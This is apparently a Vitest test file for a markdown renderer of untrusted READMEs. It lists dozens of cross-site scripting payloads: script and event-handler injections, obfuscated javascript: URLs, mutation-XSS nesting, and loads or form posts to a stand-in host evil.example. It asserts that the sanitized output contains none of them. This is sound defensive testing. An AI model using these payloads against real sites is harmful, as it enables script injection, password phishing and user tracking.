import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './markdown.ts'

const PLAIN = 'h[2-6]|p|br|hr|blockquote|pre|code|em|strong|s|ul|ol|li|table|thead|tbody|tr|th|td'
const HARMLESS = [
  new RegExp(`^</?(?:${PLAIN}|a)>$`),
  /^<(?:br|hr) \/>$/,
  /^<ol start="\d+">$/,
  // A percent sign before the first colon: no scheme, whatever it looks like.
  /^<a(?: href="(?:https?:\/\/|mailto:|#|\/|\.|[\w-]+(?:[%/.?#]|$))[^"<>]*"| href="")? rel="noopener noreferrer nofollow ugc">$/,
]

/** Every tag in rendered HTML; whatever is not one of a few shapes is no tag that we would ever show. */
function suspiciousTags(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? []
  return tags.filter((tag) => !HARMLESS.some((shape) => shape.test(tag)))
}

describe('a README that attacks its reader', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '![x](x" onerror="alert(1))',
    '![pixel](https://evil.example/pixel.gif)',
    '<svg onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input type=password></form>',
    '<style>* { background: url(https://evil.example) }</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\u0000script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A;avascript&colon;alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/without-a-scheme)',
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    '[x]: javascript:alert(1)\n[x]',
    '<javascript:alert(1)>',
    '<https://example.org/"onmouseover="alert(1)>',
    'https://example.org/"onmouseover="alert(1)',
    '`<script>alert(1)</script>`',
    '    <script>alert(1)</script>',
    '```js" onclick="alert(1)\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '<!-- --!><script>alert(1)</script> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<a <b href="javascript:alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<p style="position:fixed;inset:0">x</p>',
    '<h2 id="x" class="y" data-z="1">x</h2>',
    '| a |\n|---|\n| <script>alert(1)</script> |',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\u202e<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ])('shows it what it wrote and nothing else: %j', (source) => {
    expect(suspiciousTags(renderMarkdown(source))).toEqual([])
  })

  it('neither nests without end nor takes for ever', () => {
    for (const source of ['>'.repeat(20_000), '['.repeat(20_000), '*a_'.repeat(20_000), '- '.repeat(20_000)])
      expect(suspiciousTags(renderMarkdown(source))).toEqual([])
  })
})

describe('a README', () => {
  it('keeps what makes it readable', () => {
    const html = renderMarkdown(
      '# Title\n\nSome *text* with **weight**, `code` and ~~none~~.\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted',
    )
    for (const part of [
      '<h2>Title</h2>',
      '<em>text</em>',
      '<strong>weight</strong>',
      '<code>code</code>',
      '<s>none</s>',
    ])
      expect(html).toContain(part)
    expect(html).toContain('<ol start="3">')
    expect(html).toContain('<td>1</td>')
    expect(html).toContain('<blockquote>')
  })

  it('links to pages and to people, and vouches for neither', () => {
    const rel = 'rel="noopener noreferrer nofollow ugc"'
    expect(renderMarkdown('[docs](https://example.org/a?b=c&d)')).toContain(
      `<a href="https://example.org/a?b=c&amp;d" ${rel}>docs</a>`,
    )
    expect(renderMarkdown('<ada@example.org>')).toContain(`<a href="mailto:ada@example.org" ${rel}>`)
    expect(renderMarkdown('see https://example.org')).toContain(`<a href="https://example.org" ${rel}>`)
  })
})
